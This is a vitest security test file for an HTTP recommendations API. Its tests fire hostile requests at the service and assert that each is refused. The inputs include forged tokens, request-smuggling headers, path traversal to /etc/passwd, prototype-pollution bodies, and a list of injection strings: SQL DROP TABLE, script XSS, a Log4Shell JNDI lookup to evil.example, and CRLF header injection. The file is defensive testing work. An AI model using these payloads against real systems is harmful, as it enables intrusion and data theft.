/** Requests that nobody sends in good faith, over real sockets: each is refused as it should be, and nothing else breaks. */
import { once } from 'node:events';
import { connect } from 'node:net';
import { expect, onTestFinished, test } from 'vitest';
import { answered, guarded } from '../support/guarded.ts';

test('tokens are checked over HTTP as they are within', async () => {
  const { from, ask } = await guarded();
  const own = '/v2/users/ann/recommendations';
  expect(await ask(own, from.token())).toMatchObject({ status: 200 });
  expect(await ask('/v2/users/bob/recommendations', from.token())).toMatchObject({ status: 403 });
  for (const token of [
    from.unsigned(),
    from.confused(),
    from.token({ exp: 1 }),
    from.token({}, { pair: from.stranger() }),
  ]) {
    const { status, headers, text } = await ask(own, token);
    expect(status).toBe(401);
    expect(headers.get('www-authenticate')).toBe('Bearer realm="millrace", error="invalid_token"');
    expect(JSON.parse(text)).toMatchObject({ status: 401, code: 'CREDENTIALS_INVALID' });
  }
  const none = await ask(own);
  expect([none.status, none.headers.get('www-authenticate')]).toEqual([401, 'Bearer realm="millrace"']);
});

test("a token that is nobody's is refused before its body is read", async () => {
  const { url, from } = await guarded();
  const head = `POST /v2/ratings HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 15000\r\nauthorization: Bearer ${from.unsigned()}\r\n\r\n`;
  expect(await answered(url, head)).toMatch(/^HTTP\/1\.1 401 /);
});

test('without the issuer cached keys go on, and who has none of it yet is told to come back', async () => {
  const { from, ask } = await guarded();
  from.goesDown();
  expect(await ask('/v2/popular', from.token())).toMatchObject({ status: 503 });
  from.comesBack();
  from.clock.pass(31_000);
  expect(await ask('/v2/popular', from.token())).toMatchObject({ status: 200 });
  from.goesDown();
  from.clock.pass(3_600_000);
  expect(await ask('/v2/popular', from.token())).toMatchObject({ status: 200 });
});

test('who asks too often is told when to ask again, and others are not', async () => {
  const { from, ask, service } = await guarded();
  const own = '/v2/users/ann/recommendations';
  const statuses = [];
  for (let n = 0; n < 6; n++) statuses.push((await ask(own, from.token({ jti: n }))).status);
  expect(statuses).toEqual([200, 200, 200, 200, 200, 429]);
  const refused = await ask(own, from.token());
  expect([refused.status, refused.headers.get('retry-after')]).toEqual([429, '1']);
  expect(JSON.parse(refused.text)).toMatchObject({ code: 'RATE_LIMITED' });
  expect(await ask('/v2/popular', from.token({ sub: 'bob' }))).toMatchObject({ status: 200 });
  expect(await ask(own, service)).toMatchObject({ status: 200 });
  from.clock.pass(1_000);
  expect(await ask(own, from.token())).toMatchObject({ status: 200 });
});

test('guessing is counted by address, and keeps nobody there from coming in', async () => {
  const { from, ask, service } = await guarded({}, { anonymous: { perSecond: 1, burst: 3 } });
  const statuses = [];
  for (let n = 0; n < 5; n++) statuses.push((await ask('/v2/popular', from.unsigned())).status);
  expect(statuses).toEqual([401, 401, 401, 429, 429]);
  expect(await ask('/v2/popular')).toMatchObject({ status: 429 });
  expect(await ask('/v2/popular', service)).toMatchObject({ status: 200 });
  for (let n = 0; n < 5; n++) expect(await ask('/healthz/live')).toMatchObject({ status: 200 });
});

test('only a trusted proxy says where a request came from', async () => {
  const anonymous = { perSecond: 1, burst: 1 };
  const spoofed = await guarded({}, { anonymous });
  const as = (address: string) => ({ headers: { 'x-forwarded-for': address } });
  expect((await spoofed.ask('/openapi.json', undefined, as('1.1.1.1'))).status).toBe(200);
  expect((await spoofed.ask('/openapi.json', undefined, as('2.2.2.2'))).status).toBe(429);
  const proxied = await guarded({ trustedProxies: ['127.0.0.1'] }, { anonymous });
  expect((await proxied.ask('/openapi.json', undefined, as('1.1.1.1'))).status).toBe(200);
  expect((await proxied.ask('/openapi.json', undefined, as('2.2.2.2'))).status).toBe(200);
  expect((await proxied.ask('/openapi.json', undefined, as('9.9.9.9, 2.2.2.2'))).status).toBe(429);
});

test('pages of the sites that are listed may ask, and no others', async () => {
  const { ask, service } = await guarded({ origins: ['https://shop.example'] });
  const from = (origin: string, more: object = {}) => ({ headers: { origin, ...more } });
  const allowed = 'access-control-allow-origin';
  expect((await ask('/v2/popular', service, from('https://shop.example'))).headers.get(allowed)).toBe(
    'https://shop.example',
  );
  for (const origin of ['https://evil.example', 'https://shop.example.evil.example', 'http://shop.example', 'null'])
    expect([origin, (await ask('/v2/popular', service, from(origin))).headers.get(allowed)]).toEqual([origin, null]);
  const preflight = { ...from('https://shop.example', { 'access-control-request-method': 'POST' }), method: 'OPTIONS' };
  const may = await ask('/v2/ratings', undefined, preflight);
  expect([may.status, may.headers.get(allowed), may.headers.get('access-control-allow-credentials')]).toEqual([
    204,
    'https://shop.example',
    null,
  ]);
  expect((await ask('/v2/popular', undefined, from('https://shop.example'))).headers.get(allowed)).toBe(
    'https://shop.example',
  );
});

test('every answer says what browsers may do with it', async () => {
  const { ask, service } = await guarded();
  for (const [path, bearer] of [
    ['/v2/popular', service],
    ['/v2/popular', 'wrong'],
    ['/no/such', undefined],
  ] as const) {
    const { headers } = await ask(path, bearer);
    expect(headers.get('content-security-policy')).toContain("default-src 'self'");
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('x-frame-options')).toBe('SAMEORIGIN');
    expect(headers.get('referrer-policy')).toBe('no-referrer');
    expect(headers.get('x-powered-by')).toBeNull();
  }
});

test.for([
  ['headers beyond 16 KiB', `GET / HTTP/1.1\r\nhost: localhost\r\nx: ${'x'.repeat(17_000)}\r\n\r\n`, 431],
  ['ten thousand headers', `GET / HTTP/1.1\r\nhost: localhost\r\n${'a: b\r\n'.repeat(10_000)}\r\n`, 431],
  ['a path beyond 16 KiB', `GET /${'x'.repeat(17_000)} HTTP/1.1\r\nhost: localhost\r\n\r\n`, 431],
  ['what is no HTTP', 'EHLO localhost\r\n\r\n', 400],
  [
    'two lengths',
    'POST /v2/ratings HTTP/1.1\r\nhost: localhost\r\ncontent-length: 3\r\ncontent-length: 4\r\n\r\nabcd',
    400,
  ],
  [
    'a length and chunks',
    'POST /v2/ratings HTTP/1.1\r\nhost: localhost\r\ncontent-length: 3\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n',
    400,
  ],
  ['a line break in a header', 'GET / HTTP/1.1\r\nhost: localhost\r\nx: a\nb\r\n\r\n', 400],
  ['no host', 'GET / HTTP/1.1\r\n\r\n', 400],
  ['headers that never end', 'GET / HTTP/1.1\r\nhost: localhost\r\nx: ', 408],
  [
    'a body that never comes',
    'POST /v2/ratings HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 100\r\n\r\n{',
    401,
  ],
] as const)('%s', async ([, bytes, status]) => {
  const { url, ask, reported } = await guarded();
  expect(await answered(url, bytes)).toMatch(new RegExp(`^HTTP/1\\.1 ${status} `));
  expect(await ask('/healthz/live')).toMatchObject({ status: 200 });
  expect(reported).toEqual([]);
});

test('who is let in may not hold a connection with half a body either', async () => {
  const { url, service } = await guarded();
  const head = `POST /v2/ratings HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\nauthorization: Bearer ${service}\r\ncontent-length: 100\r\n\r\n{`;
  expect(await answered(url, head)).toMatch(/^HTTP\/1\.1 408 /);
});

test('no more connections than the bound are held', async () => {
  const { url, ask } = await guarded({ connections: 5 });
  const { hostname, port } = new URL(url);
  const idle = Array.from({ length: 5 }, () => connect(Number(port), hostname));
  onTestFinished(() => idle.forEach(socket => void socket.destroy()));
  await Promise.all(idle.map(socket => once(socket, 'connect')));
  expect(await answered(url, 'GET /healthz/live HTTP/1.1\r\nhost: localhost\r\n\r\n')).toBe('');
  for (const socket of idle) socket.destroy();
  await expect
    .poll(() =>
      ask('/healthz/live').then(
        ({ status }) => status,
        () => 0,
      ),
    )
    .toBe(200);
});

test('bodies that are too large, too deep or no JSON are refused', async () => {
  const { post, service, reported } = await guarded();
  const rating = { userId: 'ann', itemId: 'heat', value: 4 };
  const deep = '['.repeat(8_000) + ']'.repeat(8_000);
  const outcomes: readonly (readonly [body: string, status: number, type?: string])[] = [
    ['x'.repeat(17_000), 413],
    [deep, 400],
    ['{"userId":"ann"', 400],
    ['', 400],
    [JSON.stringify(rating).replace('{', '{"__proto__":{"role":"admin"},'), 400],
    [JSON.stringify(rating).replace('{', '{"constructor":{"prototype":{}},'), 400],
    [JSON.stringify({ ...rating, tenant: 'north' }), 400],
    [JSON.stringify(rating), 415, 'text/plain'],
    [JSON.stringify(rating), 415, 'application/xml'],
    [JSON.stringify(rating), 202],
  ];
  for (const [body, status, type] of outcomes)
    expect([body.slice(0, 60), (await post(body, service, type)).status]).toEqual([body.slice(0, 60), status]);
  expect(reported).toEqual([]);
});

test('tricks with paths open no other route and no file', async () => {
  const { url, from, reported } = await guarded();
  const token = from.token();
  for (const [path, status] of [
    ['/v2/users/ann/../bob/recommendations', 404],
    ['/v2/users/ann%2f..%2fbob/recommendations', 403],
    ['/v2/users/%61nn/recommendations', 200],
    ['/v2/users/ANN/recommendations', 403],
    ['/v2/users/ann%00/recommendations', 400],
    ['/v2/users/ann%1fb/recommendations', 400],
    ['/v2/users/%zz/recommendations', 400],
    ['/v2/users//recommendations', 400],
    ['/v2/users/ann;bob/recommendations', 403],
    ['/v2//users/ann/recommendations', 404],
    ['/v2/users/ann/recommendations/', 404],
    ['/v2/users/ann/recommendations?n=10&userId=bob', 400],
    ['/../../../../etc/passwd', 404],
    ['/%2e%2e/%2e%2e/etc/passwd', 404],
    ['//evil.example/v2/popular', 404],
    ['http://evil.example/v2/users/bob/recommendations', 400],
  ] as const) {
    from.clock.pass(10_000);
    const asked = `GET ${path} HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\nauthorization: Bearer ${token}\r\n\r\n`;
    expect([path, (await answered(url, asked)).slice(9, 12)]).toEqual([path, String(status)]);
  }
  expect(reported).toEqual([]);
});

test('what is written into ids and titles comes back as the text that it is', async () => {
  const { ask, post, service, fill, reported, transport } = await guarded();
  const nasty = [
    `'; DROP TABLE documents; --`,
    '<script>alert(1)</script>',
    '${jndi:ldap://evil.example/a}',
    '../../etc/passwd',
    '{{7*7}}',
    'a\u202eb',
    '👩‍🚀'.repeat(8),
    '__proto__',
    'constructor',
    '{"$gt":""}',
    '%00',
    '%0d%0aset-cookie: a=b',
  ];
  for (const id of nasty) {
    await fill.item(id, { title: id });
    expect([id, (await post(JSON.stringify({ userId: id, itemId: id, value: 4 }), service)).status]).toEqual([id, 202]);
    for (const path of [
      `/v2/users/${encodeURIComponent(id)}/recommendations`,
      `/v2/users/${encodeURIComponent(id)}/profile`,
    ]) {
      const { status, headers } = await ask(path, service);
      expect([id, status, headers.get('set-cookie')]).toEqual([id, 200, null]);
    }
    const { status, headers, text } = await ask(`/v2/items?query=${encodeURIComponent(id)}`, service);
    expect([status, headers.get('content-type')]).toEqual([200, 'application/json; charset=utf-8']);
    expect(JSON.parse(text)).toMatchObject({
      items: expect.arrayContaining([expect.objectContaining({ itemId: id, title: id })]),
    });
  }
  expect((await ask('/healthz/live')).status).toBe(200);
  expect(reported).toEqual([]);
  expect((await transport.topics()).map(({ topic }) => topic).sort()).toEqual(['exposures', 'ratings']);
});

test('a page elsewhere cannot bend a name to this machine', async () => {
  const { url, service } = await guarded();
  const asked = `GET /v2/popular HTTP/1.1\r\nhost: evil.example\r\nconnection: close\r\nauthorization: Bearer ${service}\r\n\r\n`;
  expect(await answered(url, asked)).toMatch(/^HTTP\/1\.1 421 /);
});
